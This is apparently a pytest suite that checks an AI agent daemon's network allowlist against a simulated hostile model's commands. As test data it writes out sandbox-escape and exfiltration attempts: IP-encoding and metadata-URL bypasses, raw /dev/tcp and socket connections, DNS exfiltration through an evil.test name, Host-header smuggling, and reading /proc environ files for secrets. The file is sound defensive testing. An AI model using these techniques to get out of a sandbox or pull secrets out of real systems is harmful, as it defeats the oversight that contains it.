"""N1, N3, N4, N5, N7, N8 through a whole daemon: a hostile model's commands reach what is listed, and nothing else."""

import socket
import sqlite3
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest

from support.broker_rig import upstream
from support.program_client import Conversation, bash, local_client, open_conversation, script
from support.programs import Home, World, new_world

REACHED = "REACHED"
ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nREACHED!"
pytestmark = pytest.mark.timeout(120)


@asynccontextmanager
async def conversation(world: World, home: Home, allow: list[str]) -> AsyncIterator[Conversation]:
    settings = home.lodger / "config" / "settings.toml"
    settings.parent.mkdir(mode=0o700, parents=True, exist_ok=True)
    settings.write_text(f"[network]\nallow = {allow!r}\n")
    daemon = await world.daemon(home, endpoint=await world.endpoint())
    assert daemon.first, daemon.last_words()
    # Nobody is asked, so that everything here is the list's own word.
    client_info = {"name": "test", "capabilities": ["no_questions"]}
    async with local_client(home.socket) as client:
        yield await open_conversation(client, cwd=home.workspace, client_info=client_info)


async def result(talk: Conversation, command: str) -> str:
    turn = await talk.turn(script({"calls": [bash(command)]}, {"text": "done"}))
    return turn.results[-1]


def curl(url: str, *options: str) -> str:
    """By the proxy that the box's variables name, also to loopback addresses, which programs reach directly else."""
    return " ".join(("curl -sS -m 8 --noproxy ''", *options, url))


@pytest.fixture
async def world() -> AsyncIterator[World]:
    async with new_world("network") as made:
        yield made


async def test_n1_n3_n7_only_what_is_listed_is_reached(world: World) -> None:
    home = world.home("a")
    async with upstream(ANSWER) as there, upstream(ANSWER) as other:
        listed = f"127.0.0.1:{there.port}"
        async with conversation(world, home, [listed, "localhost"]) as talk:
            # The control: the path works, by the variables a program finds in the box.
            assert await result(talk, curl(f"http://{listed}/")) == "REACHED!"
            for url in (
                f"http://127.0.0.1:{other.port}/",
                f"http://127.0.0.1.evil.test:{there.port}/",
                f"http://example.org:{there.port}/",
                f"http://2130706433:{other.port}/",
                f"http://127.1:{other.port}/",
                f"http://0x7f000001:{other.port}/",
                f"http://x@127.0.0.1:{other.port}/",
                "http://localhost/",
                "http://169.254.169.254/latest/meta-data/",
                f"http://[::1]:{other.port}/",
                f"http://[::ffff:127.0.0.1]:{other.port}/",
            ):
                said = await result(talk, curl(f"'{url}'", "-g", "-w", "'code=%{http_code}'"))
                assert REACHED not in said, url
                assert "code=200" not in said, url
            assert other.received == []
            refused = await result(talk, curl(f"https://example.org:{other.port}/"))
            assert f"[No connection to example.org:{other.port}: it is not on the list" in refused
            ways_around = (
                curl(f"http://127.0.0.1:{other.port}/", "--noproxy '*'"),
                f"exec 3<>/dev/tcp/127.0.0.1/{other.port} && echo REACHED!",
                f"python3 -c \"import socket as s; s.create_connection(('127.0.0.1',{other.port})); print('REACHED')\"",
            )
            for command in ways_around:
                assert REACHED not in await result(talk, command), command
            assert other.received == []
    with sqlite3.connect(f"file:{home.database}?mode=ro", uri=True) as database:
        found = database.execute(
            "SELECT action, subject, json_extract(a.detail, '$.work[0].turn') = r.turn_id, j.arguments FROM audit a "
            "JOIN journal j ON j.tool_call_id = json_extract(a.detail, '$.work[0].calls[0]') "
            "JOIN runs r ON r.run_id = j.run_id AND r.run_id = json_extract(a.detail, '$.work[0].run') "
            "WHERE action LIKE 'network.%' AND json_array_length(a.detail, '$.work') = 1 "
            "AND json_array_length(a.detail, '$.work[0].calls') = 1"
        ).fetchall()
        count = database.execute("SELECT count(*) FROM audit WHERE action LIKE 'network.%'").fetchone()[0]
    # Each row has the turn and the call it was, so that what ran can be looked up.
    assert len(found) == count
    assert all(turn for _, _, turn, _ in found)
    assert [command for *row, _, command in found if row == ["network.passed", listed] and listed in command]
    unlisted = f"example.org:{other.port}"
    assert [command for *row, _, command in found if row == ["network.denied", unlisted] and unlisted in command]


async def test_n1_an_empty_list_lets_nothing_out(world: World) -> None:
    async with upstream(ANSWER) as there, conversation(world, world.home("a"), []) as talk:
        assert REACHED not in await result(talk, curl(f"http://127.0.0.1:{there.port}/"))
        assert there.received == []


async def test_n1_a_list_that_means_nothing_stops_the_daemon(world: World) -> None:
    home = world.home("a")
    settings = home.lodger / "config" / "settings.toml"
    settings.parent.mkdir(mode=0o700, parents=True)
    for text in ("allow = 'example.org'", "allow = ['*']", "allow = [true]", "alow = []", "allow = ['a b']"):
        settings.write_text(f"[network]\n{text}\n")
        daemon = await world.daemon(home)
        assert not daemon.first, text
        assert "network" in daemon.last_words(), text


async def test_n4_no_resolver_inside_and_no_packet_of_a_tunnel(world: World) -> None:
    """A secret asked for as a host name goes nowhere: not from the box, nor from the broker, which resolves only what
    is listed."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.bind(("127.0.0.1", 0))
        resolver.setblocking(False)
        port = resolver.getsockname()[1]
        ask = (
            "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
            f"s.sendto(b'secret', ('127.0.0.1', {port})); s.sendto(b'secret', ('1.1.1.1', 53)); print('sent')"
        )
        async with conversation(world, world.home("a"), ["example.org"]) as talk:
            said = await result(talk, f'python3 -c "{ask}"; getent hosts example.org c2VjcmV0.evil.test')
            # An address of the box's own, which our name server makes up.
            assert "127.64.0." in said
            assert "No connection to" in await result(talk, curl("http://c2VjcmV0.example.org/"))
        with pytest.raises(BlockingIOError):
            resolver.recv(100)


async def test_n5_what_is_said_in_a_tunnel_leads_nowhere_but_to_the_host_that_was_asked_for(world: World) -> None:
    """Which name a program says in a tunnel is its own affair (docs/security.md): a server for many names may take it
    for another one's. The broker follows no such name, and without a tunnel it says the name that was judged."""
    home = world.home("a")
    async with upstream(ANSWER) as there, upstream(ANSWER) as other:
        listed, unlisted = f"127.0.0.1:{there.port}", f"127.0.0.1:{other.port}"
        async with conversation(world, home, [listed]) as talk:
            said = f"-H 'Host: {unlisted}'"
            assert await result(talk, curl(f"http://{listed}/", "--proxytunnel", said)) == "REACHED!"
            assert f"Host: {unlisted}\r\n".encode() in there.received[-1]
            fronted = f"--connect-to other.test:443:{listed}"
            await result(talk, curl("https://other.test/", fronted, "-k", "-m 2"))
            assert there.received[-1].startswith(b"\x16\x03"), "no greeting of TLS"
            assert b"other.test" in there.received[-1]
            # The control: where the broker can read, its own word for the host stands there.
            assert await result(talk, curl(f"http://{listed}/", said)) == "REACHED!"
            assert f"Host: {listed}\r\n".encode() in there.received[-1]
            assert unlisted.encode() not in there.received[-1]
            # Nor does it take the name beside the target for the target.
            head = f"CONNECT {listed} HTTP/1.1\\r\\nHost: {unlisted}\\r\\n\\r\\nhello!"
            raw = f"exec 3<>/dev/tcp/127.0.0.1/3128; printf '{head}' >&3; timeout 5 head -c {39 + len(ANSWER)} <&3"
            assert REACHED in await result(talk, raw)
            assert there.received[-1] == b"hello!"
        assert len(there.received) == 4
        assert other.received == []
    with sqlite3.connect(f"file:{home.database}?mode=ro", uri=True) as database:
        rows = database.execute("SELECT DISTINCT subject FROM audit WHERE action LIKE 'network.%'").fetchall()
    assert rows == [(listed,)]


async def test_n8_the_broker_knows_no_secret_of_the_daemon(world: World) -> None:
    home = world.home("a")
    async with upstream(ANSWER) as there, conversation(world, home, [f"127.0.0.1:{there.port}"]) as talk:
        assert await result(talk, curl(f"http://127.0.0.1:{there.port}/")) == "REACHED!"
        seen = await result(talk, "cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; ls /proc | wc -l")
        assert "OPENAI" not in seen
        assert "egress" not in seen
